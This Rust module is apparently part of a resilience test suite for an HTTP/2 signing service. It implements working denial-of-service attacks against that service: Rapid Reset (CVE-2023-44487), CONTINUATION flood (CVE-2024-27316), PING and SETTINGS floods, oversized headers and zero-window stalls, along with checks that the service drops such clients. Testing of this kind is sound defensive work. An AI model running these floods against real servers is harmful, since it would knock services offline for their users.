//! What no client would do by HTTP/2.

use std::io::{ErrorKind, Read, Result, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use mls_hsm_signer::api::{REMOVALS_PATH, RemovalsRequest};

use super::Attack;
use crate::support::http2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, fields, frame,
};
use crate::support::{PATIENCE, Service, item};

const HEALTH: &[(&str, &str)] = &[
    (":method", "GET"),
    (":path", "/healthz"),
    (":scheme", "http"),
    (":authority", "s"),
];

/// How many connections an attacker has.
const CONNECTIONS: usize = 16;

/// The streams that the service allows on each.
const STREAMS: u32 = 64;

/// Removals in a batch that is asked for again and again.
const BATCH: u32 = 500;

/// The client's end of a connection.
struct Connection {
    stream: TcpStream,
    /// How much the service takes at present.
    window: usize,
}

impl Connection {
    /// Connects and allows the service so many bytes on each stream.
    fn open(target: SocketAddr, window: u32) -> Result<Self> {
        let mut stream = TcpStream::connect(target)?;
        stream.set_read_timeout(Some(Duration::from_millis(500)))?;
        stream.set_write_timeout(Some(Duration::from_millis(500)))?;
        stream.write_all(PREFACE)?;
        let initial_window = [&[0, 4], window.to_be_bytes().as_slice()].concat();
        stream.write_all(&frame(SETTINGS, 0, 0, &initial_window))?;
        Ok(Self {
            stream,
            window: 65_535,
        })
    }

    fn send(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Result<()> {
        self.stream.write_all(&frame(kind, flags, stream, payload))
    }

    fn head(&mut self, stream: u32, flags: u8, list: &[(&str, &str)]) -> Result<()> {
        self.send(HEADERS, END_HEADERS | flags, stream, &fields(list))
    }

    /// Reads a frame and says on the connection what has to be said; returns its kind.
    fn take(&mut self) -> Result<u8> {
        self.take_frame().map(|(kind, _)| kind)
    }

    /// The same with the frame's flags; those of frames that have no stream are left out.
    fn take_frame(&mut self) -> Result<(u8, u8)> {
        let mut head = [0; 9];
        self.stream.read_exact(&mut head)?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        self.stream.read_exact(&mut payload)?;
        let (kind, flags, of_all) = (head[3], head[4], head[5..9] == [0; 4]);
        match kind {
            SETTINGS | PING if flags & ACK == 0 => {
                let echo = if kind == PING { payload } else { Vec::new() };
                self.send(kind, ACK, 0, &echo)?;
            }
            WINDOW_UPDATE if of_all => {
                self.window += u32::from_be_bytes(payload.try_into().unwrap()) as usize;
            }
            GOAWAY => return Err(ErrorKind::ConnectionAborted.into()),
            _ => {}
        }
        let of_stream = matches!(kind, DATA | HEADERS);
        Ok((kind, if of_stream { flags } else { 0 }))
    }

    /// Posts a body, as fast as the service takes it.
    fn post(&mut self, stream: u32, body: &[u8]) -> Result<()> {
        let length = body.len().to_string();
        let list = [
            (":method", "POST"),
            (":path", REMOVALS_PATH),
            (":scheme", "http"),
            (":authority", "s"),
            ("content-type", "application/json"),
            ("content-length", &length),
        ];
        self.head(stream, 0, &list)?;
        let parts = body.chunks(16 * 1024);
        let last = parts.len() - 1;
        for (number, part) in parts.enumerate() {
            while self.window < part.len() {
                self.take()?;
            }
            self.window -= part.len();
            let flags = if number == last { END_STREAM } else { 0 };
            self.send(DATA, flags, stream, part)?;
        }
        Ok(())
    }
}

impl Connection {
    /// The service ends it, though every PING is answered.
    fn assert_ends(&mut self) {
        let until = Instant::now() + PATIENCE / 4;
        loop {
            match self.take() {
                Err(error) if !quiet(&error) => return,
                _ => assert!(Instant::now() < until, "still there"),
            }
        }
    }
}

/// Whether nothing came in time, and the connection lives.
fn quiet(error: &std::io::Error) -> bool {
    matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut)
}

/// The client's streams have odd numbers.
fn streams() -> impl Iterator<Item = u32> {
    (1..1 << 31).step_by(2)
}

fn batch() -> Vec<u8> {
    let removals = (0..BATCH).map(|leaf| item("ed25519", "batch", leaf));
    let request = RemovalsRequest {
        removals: removals.collect(),
        ..RemovalsRequest::default()
    };
    serde_json::to_vec(&request).unwrap()
}

/// Has the batch signed, which is asked for again and again afterwards.
pub fn prime(service: &Service) {
    let reply = service.wire().post(REMOVALS_PATH, &batch());
    assert_eq!(reply.status, 200, "{reply:?}");
}

/// Asks for the same batch on every stream of many connections, and takes no byte of an answer.
pub fn zero_window(attack: &Attack<'_>) {
    let body = batch();
    std::thread::scope(|scope| {
        for _ in 0..CONNECTIONS {
            scope.spawn(|| {
                while attack.goes_on() {
                    // It may be ended at any point, and then is begun anew.
                    let _ = take_no_answers(attack, &body);
                }
            });
        }
    });
}

/// Asks for little on every stream of many connections, and takes no byte of an answer.
pub fn zero_window_small(attack: &Attack<'_>) {
    let mut open = Vec::new();
    while attack.goes_on() {
        if open.len() < CONNECTIONS
            && let Ok(mut connection) = Connection::open(attack.target, 0)
        {
            let asked = streams()
                .take(STREAMS as usize)
                .try_for_each(|stream| connection.head(stream, END_STREAM, HEALTH));
            if asked.is_ok() {
                open.push(connection);
            }
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn take_no_answers(attack: &Attack<'_>, body: &[u8]) -> Result<()> {
    let mut connection = Connection::open(attack.target, 0)?;
    for stream in streams().take(STREAMS as usize) {
        connection.post(stream, body)?;
    }
    while attack.goes_on() {
        match connection.take() {
            Err(error) if !quiet(&error) => return Err(error),
            _ => {}
        }
    }
    Ok(())
}

/// Asks for a page of the log on every stream of one connection, and takes all that comes.
pub fn pages(attack: &Attack<'_>) {
    let page = [
        (":method", "GET"),
        (":path", super::greed::PAGE),
        (":scheme", "http"),
        (":authority", "s"),
    ];
    while attack.goes_on() {
        // It may be ended at any point, and then is begun anew.
        let _ = take_pages(attack, &page);
    }
}

fn take_pages(attack: &Attack<'_>, page: &[(&str, &str)]) -> Result<()> {
    const WINDOW: u32 = 1 << 30;
    let mut connection = Connection::open(attack.target, WINDOW)?;
    connection.send(WINDOW_UPDATE, 0, 0, &WINDOW.to_be_bytes())?;
    let mut open = 0;
    for stream in streams() {
        connection.head(stream, END_STREAM, page)?;
        open += 1;
        while open == STREAMS && attack.goes_on() {
            let taken = connection.take_frame();
            match taken {
                Ok((_, flags)) if flags & END_STREAM != 0 => open -= 1,
                Err(error) if !quiet(&error) => return Err(error),
                _ => {}
            }
        }
        if !attack.goes_on() {
            break;
        }
    }
    Ok(())
}

/// Writes what `flood` makes, on connection after connection, and reads nothing.
fn write_only(attack: &Attack<'_>, flood: impl Fn(&mut Connection) -> Result<()> + Sync) {
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while attack.goes_on() {
                    if let Ok(mut connection) = Connection::open(attack.target, 65_535) {
                        while attack.goes_on() && flood(&mut connection).is_ok() {}
                    }
                }
            });
        }
    });
}

/// Begins requests and takes them back (CVE-2023-44487).
pub fn rapid_reset(attack: &Attack<'_>) {
    write_only(attack, |connection| {
        for stream in streams().take(100_000) {
            connection.head(stream, END_STREAM, HEALTH)?;
            connection.send(RST_STREAM, 0, stream, &8u32.to_be_bytes())?;
        }
        Err(ErrorKind::Other.into())
    });
}

/// A head that never ends (CVE-2024-27316).
pub fn continuation_flood(attack: &Attack<'_>) {
    write_only(attack, |connection| {
        connection.send(HEADERS, END_STREAM, 1, &fields(HEALTH))?;
        for number in 0..100_000 {
            let name = format!("x-{number}");
            let block = fields(&[(&name, "0123456789012345678901234567890123456789")]);
            connection.send(CONTINUATION, 0, 1, &block)?;
        }
        Err(ErrorKind::Other.into())
    });
}

pub fn ping_flood(attack: &Attack<'_>) {
    write_only(attack, |connection| connection.send(PING, 0, 0, &[7; 8]));
}

pub fn settings_flood(attack: &Attack<'_>) {
    write_only(attack, |connection| {
        let header_table = [0, 1, 0, 0, 16, 0].repeat(100);
        connection.send(SETTINGS, 0, 0, &header_table)
    });
}

/// Heads of 100 KB, far beyond `limits.header_bytes`.
pub fn long_heads(attack: &Attack<'_>) {
    write_only(attack, |connection| {
        for stream in streams().take(1000) {
            connection.send(HEADERS, END_STREAM, stream, &fields(HEALTH))?;
            let part = [("x", "0".repeat(100))];
            let part: Vec<_> = part.iter().map(|(name, value)| (*name, &**value)).collect();
            for _ in 0..9 {
                let block = fields(&part).repeat(100);
                connection.send(CONTINUATION, 0, stream, &block)?;
            }
            connection.send(CONTINUATION, END_HEADERS, stream, &[])?;
        }
        Err(ErrorKind::Other.into())
    });
}

/// A batch whose answer is more than a socket's buffers take.
pub fn batch_by_http1() -> Vec<u8> {
    let body = batch();
    let head = format!(
        "POST {REMOVALS_PATH} HTTP/1.1\r\nHost: s\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n",
        body.len()
    );
    // Four answers, one after the other.
    [head.as_bytes(), &body].concat().repeat(4)
}

/// Who has asked and takes no byte of the answer is sent away.
pub fn ends_unread(target: SocketAddr) {
    let mut connection = Connection::open(target, 0).unwrap();
    connection.post(1, &batch()).unwrap();
    connection.assert_ends();
}

/// Who has asked once and then only answers PINGs is sent away.
pub fn ends_between_requests(target: SocketAddr) {
    let mut connection = Connection::open(target, 65_535).unwrap();
    connection.head(1, END_STREAM, HEALTH).unwrap();
    connection.assert_ends();
}
